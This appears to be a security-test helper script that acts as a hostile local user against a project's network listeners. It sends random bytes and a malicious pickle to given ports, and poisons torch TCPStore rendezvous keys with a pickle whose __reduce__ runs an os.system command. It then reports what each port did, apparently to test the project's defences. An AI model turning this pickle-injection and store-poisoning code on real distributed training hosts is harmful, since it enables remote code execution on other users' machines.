"""Another user of the machine, who attacks what a point listens on: ``python stranger.py FOLDER``, doors as a line of JSON on its input.

Imports no test and nothing of CARAML: it has torch, as everybody on the machine, and a folder of its own. It says ``ready`` once it has
imported that, and in the end one line of JSON: what it found out at each door.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import socket
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

from torch.distributed import TCPStore

PATIENCE = 5.0
"""Seconds for a store to answer after one that anybody may open has: torch waits for ever for something that says nothing."""


class Owned:
    """Whoever unpickles this makes a file in the stranger's folder."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (f"id -u >{self.mark}",)


def shout(host: str, port: int, mark: Path) -> str:
    """Garbage, and a pickle, to whoever listens. The connections stay open, as somebody's would who wants to disturb."""
    payload = pickle.dumps(Owned(mark))
    for content in (os.urandom(8192), bytes(8192), b"\x01" + bytes(7) + payload, len(payload).to_bytes(8, "little") + payload):
        try:
            connection = socket.create_connection((host, port), timeout=5)
            connection.setblocking(False)
            connection.send(content)
        except OSError as error:
            return str(error)
        kept.append(connection)
    return "took it"


def poison(host: str, port: int, mark: Path, answers: list[str]) -> None:
    """The store of torch: read its keys, and put a pickle under what torchrun looks for; ``answers`` gets what came of it."""
    try:
        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=300))
        keys = list(store.list_keys())
        answers.append(f"{len(keys)} keys")
        for key in keys:
            if "rendezvous" in key:
                store.set(key, base64.b64encode(pickle.dumps(Owned(mark))))
    except Exception as error:  # noqa: BLE001 -- whatever torch says to a door that is no store
        answers.append(type(error).__name__)


kept: list[socket.socket] = []

if __name__ == "__main__":
    folder = Path(sys.argv[1]) / "loot"
    folder.mkdir()
    folder.chmod(0o777)  # whoever is made to write here can
    print("ready", flush=True)
    doors = json.loads(sys.stdin.readline())
    found = {f"{host} {port}": [shout(host, port, folder / f"shouted-{number}")] for number, (host, port) in enumerate(doors)}
    asking = [
        threading.Thread(target=poison, args=(host, port, folder / f"poisoned-{number}", found[f"{host} {port}"]), daemon=True)
        for number, (host, port) in enumerate(doors)
    ]
    for one in asking:
        one.start()
    own, opened = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False), list[str]()
    own.set("greeting", "open")
    poison(own.host, own.port, folder / "own", opened)
    until = time.monotonic() + PATIENCE
    for one in asking:
        one.join(max(until - time.monotonic(), 0))
    found = {door: answers if len(answers) > 1 else [*answers, "no answer"] for door, answers in found.items()}
    print(json.dumps(found | {"a store of its own": opened}), flush=True)
    sys.stdin.readline()  # holds its connections until it is told that it may go
    os._exit(0)
